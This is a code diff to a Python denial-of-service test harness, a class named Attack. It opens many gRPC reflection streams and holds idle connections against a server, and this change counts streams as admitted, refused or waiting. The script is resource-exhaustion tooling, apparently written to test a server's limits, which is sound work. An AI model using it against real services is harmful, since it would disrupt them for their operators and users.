@@ -107,15 +107,32 @@ class Attack:
         self._metrics_port = metrics_port
         self._socks: list[socket.socket] = []
         self._idle = idle
+        self.waiting_streams = 0  # neither answered nor refused: queued for a worker
         stub = reflection_pb2_grpc.ServerReflectionStub(self._channel)
-        for _ in range(streams):
-            call = stub.ServerReflectionInfo(self._requests(), timeout=600)
+        self._calls = [
+            stub.ServerReflectionInfo(self._requests(), timeout=600) for _ in range(streams)
+        ]
+        outcomes: list[str] = []
+        lock = threading.Lock()
+
+        def first_answer(call: Any) -> None:
             try:
                 next(call)
-                self._calls.append(call)
-                self.admitted_streams += 1
+                outcome = "admitted"
             except grpc.RpcError:
-                self.refused_streams += 1
+                outcome = "refused"
+            with lock:
+                outcomes.append(outcome)
+
+        for call in self._calls:
+            threading.Thread(target=first_answer, args=(call,), daemon=True).start()
+        deadline = time.monotonic() + 5.0
+        while len(outcomes) < streams and time.monotonic() < deadline:
+            time.sleep(0.05)
+        with lock:
+            self.admitted_streams = outcomes.count("admitted")
+            self.refused_streams = outcomes.count("refused")
+            self.waiting_streams = streams - len(outcomes)
         self._thread = threading.Thread(target=self._keep_connections, daemon=True)
         self._thread.start()
 
@@ -213,6 +230,7 @@ def main() -> None:
                     "opened": args.reflection_streams,
                     "admitted": attack.admitted_streams,
                     "refused": attack.refused_streams,
+                    "waiting": attack.waiting_streams,
                 },
                 "idle_connections": {"held": args.idle_connections, "admitted": admitted},
                 "agent_threads": {"quiet": quiet_threads, "attacked": peak[0]},
